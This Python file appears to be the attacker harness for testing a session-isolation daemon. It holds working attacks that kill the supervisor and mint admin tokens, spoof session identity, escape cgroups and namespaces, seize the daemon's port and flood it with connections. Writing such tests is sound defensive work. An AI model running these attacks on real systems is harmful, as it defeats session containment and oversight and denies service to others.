"""Programs of an attacker inside a session, who wants to be taken for somebody outside.

attacks.py NAME ARGUMENTS; each prints what came of it.

kill_supervisor SOCKET    ends whatever stands above it, then mints a token as an orphan
reuse_number SOCKET FOLDER WHEN   connects, hands the connection to a child and ends; the child asks
                          once FOLDER/ask is there. With WHEN=accepted the one that connects lives
                          until the daemon has accepted, with WHEN=waiting it does not wait
zombies COUNT             leaves a process that waits for none of its children, which have ended
thread TCP_PORT TOKEN PATH BODY   asks from a thread that has descriptors of its own
close TCP_PORT TOKEN PATH BODY FOLDER   asks and closes the connection, with a reset and without,
                          between FOLDER/ask and FOLDER/left
pass TCP_PORT TOKEN PATH BODY FOLDER    asks after FOLDER/ask; the connection is on its way in a
                          unix socket from FOLDER/left to FOLDER/judged
survive WORD              leaves a process that sheds all it was given: `sleep WORD`
grab SOCKET PORT          has the daemon restarted and takes its port meanwhile
use_up                    makes as many user namespaces as it gets, and keeps them
claim SOCKET SESSION PATH asks as a child that says it belongs to another session
shed SOCKET REPORT [leave]  sheds its environment (and leaves its control group), ends its agentctl,
                          mints a token, and writes what came of it to REPORT
trace PID                 traces a process without stopping it
send SOCKET LINE          sends a line to a program that listens there
obey SOCKET               runs the first line that comes there as a command, outside
hold TO COUNT KIND [TOKEN]  leaves processes that hold so many connections to a socket or a TCP
    port: silent, with half a head, half a body or a stream; flood: processes that only connect"""

import ctypes
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_FILES, CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID = 0x400, 0x20000, 0x10000000, 0x20000000
PR_SET_NAME = 15
MINT = '{"name":"x","scopes":["admin"]}'


def text_of(path, body, token=""):
    bearer = f"Authorization: Bearer {token}\r\n" if token else ""
    method = "POST" if body else "GET"
    host = f"127.0.0.1:{PORT}" if PORT else "localhost"
    return (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{bearer}"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
            f"Connection: close\r\n\r\n{body}").encode()


PORT = 0


def unix(path):
    made = socket.socket(socket.AF_UNIX)
    made.connect(path)
    return made


def tcp(port):
    global PORT
    PORT = int(port)
    return socket.create_connection(("127.0.0.1", PORT), timeout=30)


def answer(connection):
    connection.settimeout(30)
    got = b""
    try:
        while piece := connection.recv(65536):
            got += piece
    except OSError as error:
        return f"failed={error}"
    return "status=" + got.split(b" ", 2)[1].decode() if got else "closed"


def in_orphan(body):
    """Runs it in a grandchild with a session of its own and nothing in its environment."""
    here, there = os.pipe()
    if os.fork() == 0:
        if os.fork() == 0:
            os.setsid()
            os.close(here)
            body(lambda text: os.write(there, text.encode()))
        os._exit(0)
    os.wait()
    os.close(there)
    with os.fdopen(here) as result:
        print(result.read())


def kill_supervisor(path):
    def body(tell):
        for number in (os.getppid(), 1):
            try:
                os.kill(number, signal.SIGKILL)
            except OSError as error:
                tell(f"kill {number}: {error}; ")
        connection = unix(path)
        connection.sendall(text_of("/api/tokens", MINT))
        tell(answer(connection))
        os._exit(0)
    in_orphan(body)


def leave_word(folder, name):
    open(f"{folder}/{name}", "w").close()


def wait_for_word(folder, name):
    while not os.path.exists(f"{folder}/{name}"):
        time.sleep(0.01)


def reuse_number(path, folder, when):
    here, there = os.pipe()
    child = os.fork()
    if child == 0:
        libc.prctl(PR_SET_NAME, b"perdure-reused")
        leave_word(folder, "named")
        wait_for_word(folder, "connect")
        connection = unix(path)
        if when == "accepted":
            one_more_request(unix(path))
        if os.fork() == 0:
            os.setsid()
            os.close(here)
            wait_for_word(folder, "ask")
            connection.sendall(text_of("/api/tokens", MINT))
            os.write(there, answer(connection).encode())
        os._exit(0)
    os.waitpid(child, 0)
    leave_word(folder, "ended")
    os.close(there)
    with os.fdopen(here) as result:
        print(result.read())


def zombies(count):
    here, there = os.pipe()
    if os.fork() == 0:
        os.setsid()
        for _ in range(int(count)):
            child = os.fork()
            if child == 0:
                os._exit(0)
            os.waitid(os.P_PID, child, os.WEXITED | os.WNOWAIT)
        for descriptor in range(3):
            os.close(descriptor)
        os.write(there, b"x")
        os.close(there)
        signal.pause()
    os.close(there)
    os.read(here, 1)
    print("left")


def thread(port, token, path, body):
    saw = []

    def ask():
        libc.unshare(CLONE_FILES)
        connection = tcp(port)
        connection.sendall(text_of(path, body, token))
        saw.append(answer(connection))
    runner = threading.Thread(target=ask)
    runner.start()
    runner.join()
    print(saw[0])


def one_more_request(connection):
    """The daemon takes connections in their order: what came before has been read by then."""
    connection.sendall(text_of("/healthz", ""))
    answer(connection)


def close(port, token, path, body, folder):
    leave_word(folder, "ready")
    wait_for_word(folder, "ask")
    for linger in (None, struct.pack("ii", 1, 0)):
        connection = tcp(port)
        if linger:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        connection.sendall(text_of(path, body, token))
        connection.close()
    leave_word(folder, "left")
    one_more_request(tcp(port))  # answered after the closed connections
    print("closed")


def pass_on(port, token, path, body, folder):
    leave_word(folder, "ready")
    wait_for_word(folder, "ask")
    connection = tcp(port)
    one, other = socket.socketpair()
    connection.sendall(text_of(path, body, token))
    socket.send_fds(one, [b"x"], [connection.fileno()])
    connection.close()
    leave_word(folder, "left")
    wait_for_word(folder, "judged")  # while no process holds the connection
    received = socket.recv_fds(other, 1, 1)[1]
    print(answer(socket.socket(fileno=received[0])))


def survive(word):
    if os.fork() == 0:
        os.setsid()
        libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID)
        if os.fork() == 0:
            os.setsid()
            for descriptor in range(3):
                os.close(descriptor)
            os.execve("/bin/sleep", ["sleep", word], {})
        os._exit(0)
    os.wait()
    print("left")


def whole(path, target, body=""):
    connection = unix(path)
    connection.sendall(text_of(target, body))
    got = b""
    while piece := connection.recv(65536):
        got += piece
    return got.decode()


def grab(path, port):
    def boot():
        try:
            return whole(path, "/api/daemon").split('"boot_id":"')[1].split('"')[0]
        except (OSError, IndexError):
            return ""  # cut off by the restart
    before = boot()
    while " 202 " not in whole(path, "/api/restart", "{}"):
        time.sleep(0.05)
    done, tries = threading.Event(), 0

    def wait():
        while boot() in ("", before):
            pass
        done.set()
    threading.Thread(target=wait).start()
    while not done.is_set():
        tries += 1
        for host in ("127.0.0.1", "0.0.0.0"):
            listener = socket.socket()
            listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                listener.bind((host, int(port)))
                listener.listen()
                print("grabbed")
                return
            except OSError:
                listener.close()
    print("held" if tries > 10 else "too few tries")


def use_up():
    """Each child keeps a chain of namespaces, one in the other, until its session ends."""
    made, is_full = 0, False
    while not is_full and made < 200_000:
        here, there = os.pipe()
        if os.fork() == 0:
            os.setsid()
            depth = 0
            while depth < 25 and libc.unshare(CLONE_NEWUSER) == 0:
                depth += 1
            os.write(there, bytes([depth]))
            for descriptor in range(3):
                os.close(descriptor)
            signal.pause()
        depth = os.read(here, 1)[0]
        os.close(here)
        os.close(there)
        made += depth
        is_full = depth < 25
    print(f"made {made}")


BEGINNINGS = {
    "silent": b"", "half": b"GET /api/sessions HTTP/1.1\r\nHost: ",
    "body": b"POST /api/sessions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json"
            b"\r\nContent-Length: 1000000\r\n\r\n{"}


def open_held(to, kind, token):
    connection = tcp(to) if to.isdigit() else unix(to)
    text = BEGINNINGS.get(kind)
    if text is None:
        text = text_of("/api/stream", "", token).replace(b"Connection: close\r\n", b"")
    try:
        connection.sendall(text)
        if to.isdigit():
            connection.recv(1)  # identified by now
    except OSError:
        pass  # it was closed at once
    return connection


def hold_some(to, count, kind, token, tell):
    held = []
    if kind == "flood":
        os.write(tell, b"1")
        while True:
            unix(to).close()
    for _ in range(count):
        held.append(open_held(to, kind, token))
    os.write(tell, str(len(held)).encode())
    while True:
        signal.pause()


def hold(to, wanted, kind, token=""):
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    left, held = int(wanted), 0
    while left > 0:
        share = 1 if kind == "flood" else min(left, most - 64)
        left -= share
        here, there = os.pipe()
        if os.fork() == 0:
            os.setsid()
            for descriptor in range(3):
                os.close(descriptor)
            hold_some(to, share, kind, token, there)
        os.close(there)
        held += int(os.read(here, 20) or 0)
    print(f"held={held}")


def claim(path, session, target):
    if os.fork() == 0:
        words = [sys.executable, __file__, "ask", path, target]
        os.execve(sys.executable, words, {"PERDURE_SESSION": session})
    os.wait()


def ask(path, target):
    connection = unix(path)
    connection.sendall(text_of(target, ""))
    print(answer(connection))


def shed(path, report, leave=""):
    if os.fork() == 0:
        os.setsid()
        parent = os.getpid()
        if os.fork() == 0:
            while os.getppid() == parent:
                time.sleep(0.01)
            words = [sys.executable, __file__, "mint_alone", path, report, leave]
            os.execve(sys.executable, words, {})
        os._exit(0)
    os.wait()


def leave_control_group():
    with open("/proc/self/mounts") as mounts:
        place = [line.split()[1] for line in mounts if line.split()[2] == "cgroup2"]
    with open("/proc/self/cgroup") as groups:
        own = [line[3:].strip() for line in groups if line.startswith("0::")][0]
    try:
        with open(os.path.dirname("".join(place[:1]) + own) + "/cgroup.procs", "w") as members:
            members.write("0")
    except OSError:
        pass  # there is no group to leave, or it is not ours


def mint_alone(path, report, leave):
    if leave:
        leave_control_group()
    agentctl = os.getppid()
    os.kill(agentctl, signal.SIGKILL)
    # 1: in a process namespace it cannot be ended
    while agentctl != 1 and os.getppid() == agentctl:
        time.sleep(0.01)
    connection = unix(path)
    connection.sendall(text_of("/api/tokens", MINT))
    with open(report + ".new", "w") as file:
        file.write(answer(connection))
    os.rename(report + ".new", report)


def trace(pid):
    PTRACE_SEIZE = 0x4206
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, int(pid), None, None) == 0:
        print("traced")
    else:
        print("refused: " + os.strerror(ctypes.get_errno()))


def send(path, *words):
    connection = unix(path)
    connection.sendall((" ".join(words) + "\n").encode())


def obey(path):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen()
    print("listens", flush=True)
    command = listener.accept()[0].makefile().readline()
    subprocess.Popen(["sh", "-c", "exec " + command], start_new_session=True, env={},
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)


ATTACKS = {"kill_supervisor": kill_supervisor, "reuse_number": reuse_number, "thread": thread,
           "close": close, "pass": pass_on, "survive": survive, "zombies": zombies,
           "use_up": use_up, "grab": grab, "claim": claim, "ask": ask, "shed": shed,
           "mint_alone": mint_alone, "trace": trace, "send": send, "obey": obey, "hold": hold}
ATTACKS[sys.argv[1]](*sys.argv[2:])
